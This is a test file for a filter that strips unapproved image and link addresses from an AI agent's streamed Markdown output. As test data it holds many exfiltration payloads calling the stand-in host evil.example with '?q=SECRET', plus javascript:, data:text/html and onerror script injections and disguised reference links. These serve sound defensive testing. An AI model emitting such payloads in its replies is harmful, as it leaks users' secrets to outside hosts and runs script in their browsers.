"""The model's own Markdown: no image, no address that no tool gave, whatever pieces it comes in."""

from __future__ import annotations

import html
import re
import time
from urllib.parse import unquote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from workbench.agent.hostile import SafeMarkdown

NEWS = "https://news.example/apple?id=1&page=2"
PLAIN = "https://ok.example/a"
GIVEN = frozenset((NEWS, PLAIN))
RENDERED = MarkdownIt("gfm-like", {"html": False, "linkify": False})

EXFILTRATION = (
    "![chart](https://evil.example/?q=SECRET)",
    "![](https://evil.example/?q=SECRET)",
    '![a](<https://evil.example/a b> "title")',
    "![a][pic]\n\n[pic]: https://evil.example/p.png",
    "[pic]: https://evil.example/p.png\n\n![pic][]",
    "[![a](https://evil.example/1.png)](https://evil.example/2)",
    f"[![a](https://evil.example/1.png)]({PLAIN})",
    "[click](https://evil.example/?q=SECRET)",
    "[click](  https://evil.example/x  'title' )",
    "[a [b] c](https://evil.example/x)",
    "[a ![b](https://evil.example/i) c](https://evil.example/x)",
    r"[a\](b](https://evil.example/x)",
    "[a](https://evil.example/(x)(y))",
    f"[a]({PLAIN}.evil.example/)",
    f"[a]({PLAIN}#https://evil.example)",
    f"[a]({PLAIN}@evil.example/x)",
    f'{PLAIN}|q=1 {PLAIN}"q=1 {PLAIN}`q=1 {PLAIN}>q=1',
    f'[a]({PLAIN} "https://evil.example/x")',
    f"[a]({PLAIN} '![b](https://evil.example/x)')",
    f"{PLAIN}<https://evil.example/x>",
    "[a](//evil.example/x)",
    "[a](\\\\evil.example/x)",
    "[a](/lab/api/shutdown)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java&#115;cript&colon;alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox)",
    "[a](һttps://evil.example/x)",  # a Cyrillic letter
    "[a](ｈｔｔｐｓ://evil.example/x)",
    "[a](&#104;ttps&#58;&#47;&#47;evil.example)",
    "[a](%68ttps://evil.example)",
    "<https://evil.example/x>",
    "<HTTPS://evil.example/x>",
    "<javascript:alert(1)>",
    "<ftp://evil.example/x>",
    "See https://evil.example/?q=SECRET, and more.",
    "See HTTPS://EVIL.EXAMPLE/x",
    "See www.evil.example/x",
    "See //evil.example/x",
    "See https:evil.example/x and http:/evil.example/y",
    "See https&colon;&sol;&sol;evil.example/x",
    "See https%3A%2F%2Fevil.example/x",
    "See һttps://evil.example/x",
    "See https：／／evil.example/x",
    "(https://evil.example/x) *https://evil.example/y* |https://evil.example/z|",
    "[[c1]](https://evil.example/x)",
    "`https://evil.example/x`",
    "```\n[a](https://evil.example/x)\n```",
    "[r]: https://evil.example/x",
    "[r]:\n  <https://evil.example/x> 'title'",
    "> [r]: /relative/path\n> [x][r]",
    "- [r]: javascript:alert(1)",
    "[r]: &#106;avascript:alert(1)",
    '<img src="https://evil.example/x">',
    "<img src=//evil.example/x onerror=alert(1)>",
    "<a href='https://evil.example'>a</a>",
    "[multi\nline](https://evil.example/x)",
    "[" + "long " * 80 + "](https://evil.example/x)",
    "[a](https://evil.example/" + "x" * 3000 + ")",
    "![a](https://evil.example/" + "x" * 3000 + ") after",
    "https://evil.example/" + "x" * 3000,
    "[" * 30 + "a" + "](https://evil.example/x)" * 30,
    "[a](https://evil.example/x",
    "![a](https://evil.example/x",
    "<https://evil.example/x",
)

# What a renderer reads as a link or an image, though it does not look like one.
DISGUISED = (
    "[r]: ][r]: \n[r]: ",
    "> [r]:\n> /lab/x\n\n[r]",
    "> [r]:\n> mailto:a@evil.example\n\n[r]",
    "\r[r]: /lab/x\r\r[r]",
    "[r]:\r\n/lab/x\r\n\r\n[r]",
    "[a\nb]: /lab/x\n\n[a b]",
    f"[{'x' * 400}]: /lab/x\n\n[{'x' * 400}]",
    f"{'> ' * 14}[r]: /lab/x\n\n[r]",
    r"[a\]: b]: /lab/x" + "\n\n" + r"[a\]: b]",
    "[r]: </lab\\>x>\n\n[r]",
    "[r]: \u00a0/lab\n\n[r]",
    "[r]: /x\u00a0y\n\n[r]",
    "[r]: mailto&colon;a@evil.example\n\n[r]",
    "[r]: x&#x2f;y\n\n[r]",
    "[r]: ma\\:b\n\n[r]",
    "[a](</lab\\>x>)",
    "[a](/x\u00a0y)",
    "[a](x\u2003/y)",
    "<mailto:a\u00a0b>",
    "<a@evil.example>",
    f"[r]: {PLAIN}<\n\n[r]",
    f"[a]({PLAIN}<)",
    f"> [[c1]](\n\\{PLAIN}>,\n> )",
    "[[c1]](/lab/x https://evil.example)",
    # What is left once something else was taken out.
    "[a](/lab/x https://evil.example)",
    "[r]: /lab/x https://evil.example\n\n[r]",
    "[x]([/lab/x]( https://evil.example))",
    "[x](/lab/x [](https://evil.example))",
    '[x](/lab/x "a [b](https://evil.example"c) d")',
    '[r]: /lab/x [" a](https://evil.example) "\n\n[r]',
    '[r]: ![ /lab/x "](https://evil.example) "\n\n[r]',
    "[a][(/lab/x)](https://evil.example)",
    "[a]![(/lab/x)](https://evil.example)",
    "<[mailto:a@b>](https://evil.example)",
    "www[.evil.example](https://evil.example)",
    f"![c]\n\n[c]: {PLAIN}",
    f"[c]: {PLAIN}\n\n![c]",
    "[r]: name\n\n![" + "r" * 300 + "] ![r]",
)

ORDINARY = (
    "Apple returned [[c1]] in 2008, and [[ c12 ]] after.",
    "See a[1] (see b), f[x](y), rows[0](1, 2) and [0, 1) or (0, 1].",
    "| Symbol | Return |\n|:---|---:|\n| AAPL | [[c1]] |\n| MSFT | -5.2% |",
    "```python\nfor row in data[1:]:\n    total += row['x'] / 2  # half\n    handlers[k](v)\n```",
    "**FACT:** up 5 % & more; 3 < 4 > 2; a/b; 1:2; 12/26/9; AT&T; S&P 500!",
    "- [ ] a task\n- [x] done\n1. [FACT]: NASDAQ:AAPL rose\n[ASSUMPTION]: 3/4 of revenue stays",
    "[1] A note. [^2] Another. [see the table] below [a][b]",
    "Wow! [maybe]. Data: the figures. HTTP: a protocol. JavaScript: a language. www is old.",
    "Times 10:30 / 16:00; C: is a drive; x = y // 2; ends in an open [bracket",
    f"News: [Apple up]({NEWS}), <{PLAIN}>, {PLAIN}. And ({PLAIN}) *{PLAIN}*",
    f"[a]({PLAIN})|[b]({NEWS}) [c!]({PLAIN})—[[[c1]]]({NEWS}), and ([a]({PLAIN})).",
    f'[titled]({PLAIN} "a title") [angled](<{NEWS}>)\n\n[r]: {PLAIN}\n',
    "Cổ phiếu tăng 5%; 株価は上昇した（速報）：以上。 Ünïcödé — “quotes” … 🙂",
    "",
    "!",
    "[",
    "](",
)

TOKENS = (
    "[", "]", "(", ")", "![", "](", "]:", "[[c1]]", "https://evil.example/x", PLAIN, NEWS, "http:",
    "//", "/", "\\", "&#58;", "&colon;", "&sol;", "%3a", "%2f", "%2", "&", "&#4", "7;", "www.",
    "evil.example", "data:", "text/html,", "javascript:", "script:", "<", "<https:", ">", " ", "\n",
    '"', "'", "a", "word ", ":", "：", "!", "ht", "tps", "[r]: ", "<img ", "onerror=", "|", "`",
    "5%", "_", "*", "@", "> ", "[r]", "\n[r]: ", "/lab/x", "\r", "\u00a0", "x" * 299, "y" * 1999,
)  # fmt: skip
MARKDOWN = st.lists(st.sampled_from(TOKENS), max_size=16).map("".join)


def safe(*pieces: str) -> tuple[str, list[str]]:
    """The text that was let through, and what was left out."""
    markdown = SafeMarkdown(GIVEN)
    text = "".join(markdown.feed(piece) for piece in pieces) + markdown.finish()
    return text, sorted(markdown.left_out)


def addresses(text: str) -> set[str]:
    """All that reads as an absolute address in ``text``, however it is written."""
    read = unquote(html.unescape(text)).translate({0xFF1A: ":", 0xFF0F: "/"})
    return set(re.findall(r"(?i)(?:[\w+.-]+:|(?<!:))//[^\s<>\"')\]*|`]+|www\.[^\s)]+", read))


def assert_safe(text: str) -> None:
    """Nothing in ``text`` leads anywhere a tool did not say, as text or rendered."""
    rendered = RENDERED.render(text)
    assert "<img" not in rendered
    for url in re.findall(r'(?:href|src)="([^"]*)"', rendered):
        # What is left as a target is the name of something, as in f[x](y), or a reference.
        name = re.fullmatch(r"[^/\\:]*|\[.*", unquote(url))
        assert html.unescape(url) in GIVEN or name, url


@pytest.mark.parametrize("text", EXFILTRATION)
def test_nothing_leads_to_an_address_no_tool_gave(text: str) -> None:
    shown, left_out = safe(f"{text}\n\nThe end.")
    assert addresses(shown) <= {f"{PLAIN}"}
    assert not re.search(r"(?i)javascript:|data:text|vbscript:|evil\.example/\w|q=SECRET", shown)
    assert_safe(shown)
    assert left_out
    assert shown.endswith("The end.")


@pytest.mark.parametrize("text", EXFILTRATION)
def test_nor_does_it_in_pieces(text: str) -> None:
    whole = safe(text)
    for size in (1, 2, 3, 4, 7, 50):
        assert safe(*(text[at : at + size] for at in range(0, len(text), size))) == whole


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_passes_as_it_is(text: str) -> None:
    assert safe(text) == (text, [])
    assert safe(*text) == (text, [])


@pytest.mark.parametrize("text", DISGUISED)
def test_nor_does_what_a_renderer_alone_reads_as_a_link(text: str) -> None:
    whole = safe(text)
    assert_safe(whole[0])
    assert addresses(whole[0]) <= {PLAIN}
    for size in (1, 2, 3, 7):
        assert safe(*(text[at : at + size] for at in range(0, len(text), size))) == whole


@given(MARKDOWN, st.data())
@settings(max_examples=300, deadline=None)
def test_what_passes_depends_on_the_text_and_not_on_its_pieces(
    text: str, data: st.DataObject
) -> None:
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=12)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert safe(*pieces) == safe(text)
    assert safe(*text) == safe(text)


@given(MARKDOWN)
@example("[r]: ][r]: \n[r]: ")
@example("[a](/ https://evil.example/x)")
@settings(max_examples=500, deadline=None)
def test_nothing_that_is_rendered_leads_where_no_tool_said(text: str) -> None:
    assert_safe(safe(text)[0])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![the chart](https://evil.example/x) here", "See the chart ‹image left out› here"),
        ("![](https://evil.example/x)", "‹image left out›"),
        (f"![a]({PLAIN})", "a ‹image left out›"),
        ("A [link](https://evil.example/x).", "A link ‹link left out›."),
        ("See https://evil.example/x.", "See ‹link left out›."),
        ("<https://evil.example/x>!", "‹link left out›!"),
        ("[[c1]](https://evil.example/x)", "[[c1]] ‹link left out›"),
        (rf"\[a]({PLAIN})q=1", rf"\[a]({PLAIN}) q=1"),
        (f'a]({PLAIN} "t")q=1', f'a]({PLAIN} "t") q=1'),
        ("[r]: https://evil.example/x\nb", "[r]: ‹link left out›\nb"),
        ("[![i](https://evil.example)](https://b.example)", "i ‹image left out› ‹link left out›"),
    ],
)
def test_what_is_left_out_is_said_in_its_place(text: str, shown: str) -> None:
    assert safe(text)[0] == shown


def test_what_was_left_out_is_told_without_what_it_held() -> None:
    _, left_out = safe(
        "![a](https://evil.example/?q=SECRET) [b](javascript:alert(1)) [c](/x) "
        '<img src="x" onerror=alert(1)> <script>'
    )
    assert left_out == [
        "html: img", "html: onerror", "html: script", "image: evil.example", "link: a path",
        "link: javascript:",
    ]  # fmt: skip


def test_tags_stay_as_text_for_the_renderer_to_escape() -> None:
    assert safe("<img src=x> <b>bold</b>")[0] == "<img src=x> <b>bold</b>"


def test_the_addresses_may_grow_and_may_be_told_by_a_function() -> None:
    known: set[str] = set()
    markdown = SafeMarkdown(known)
    assert markdown.feed(f"{PLAIN} ") == "‹link left out› "
    known.add(PLAIN)
    assert markdown.feed(f"{PLAIN} ") == f"{PLAIN} "
    asked = SafeMarkdown(lambda url: url.startswith("https://ok."))
    assert asked.feed("[a](https://ok.example/b) [a](https://evil.example/b) ") == (
        "[a](https://ok.example/b) a ‹link left out› "
    )
    # Whatever a function says, a script is no address of the web.
    anything = SafeMarkdown(lambda _: True)
    assert anything.feed("[a](javascript:alert(1)) ") == "a ‹link left out› "


def test_text_is_held_back_only_while_a_construct_may_be_open() -> None:
    markdown = SafeMarkdown(GIVEN)
    assert markdown.feed("Apple rose ") == "Apple rose "
    assert markdown.feed("[") == ""
    assert markdown.feed("0, 1) and\n") == "[0, 1) and\n"
    assert markdown.feed("then [[c1]]") == "then "
    assert markdown.feed(" up") == "[[c1]] up"
    assert markdown.feed(" [" + "a" * 300) == " [" + "a" * 300
    assert markdown.feed(" ![a](https://evil.example/" + "x" * 1900) == " "
    assert markdown.feed("x" * 200) != ""


@given(st.lists(st.sampled_from((*TOKENS[:-2], "[[", "c1", "]]", "Up [[c1]]")), max_size=12))
@settings(max_examples=200, deadline=None)
def test_a_reference_stays_one_for_who_writes_the_figures(tokens: list[str]) -> None:
    """A reference that stands alone is cited once, filtered or not."""
    text = "".join(tokens).replace("[[c1]]", "") + "\n\nUp [[c1]](https://evil.example/x) now"
    assert safe(text)[0].endswith("Up [[c1]] ‹link left out› now")


def test_a_piece_costs_little() -> None:
    prose = "Apple returned [[c1]] in 2008 (see the table): **down** and then up 5%.\n" * 300
    for text, microseconds in (
        (prose, 20),
        ("[0, 1) [a " * 2000, 60),
        ("![alt " * 3000, 60),
        ("[x]: " * 3000, 60),
        ("https://" + "a" * 20_000, 60),
    ):
        pieces = [text[at : at + 4] for at in range(0, len(text), 4)]
        spent = []
        for _ in range(3):  # the machine may be busy with others
            markdown, started = SafeMarkdown(GIVEN), time.process_time()
            for piece in pieces:
                markdown.feed(piece)
            markdown.finish()
            spent.append((time.process_time() - started) / len(pieces))
        assert min(spent) < microseconds / 1e6
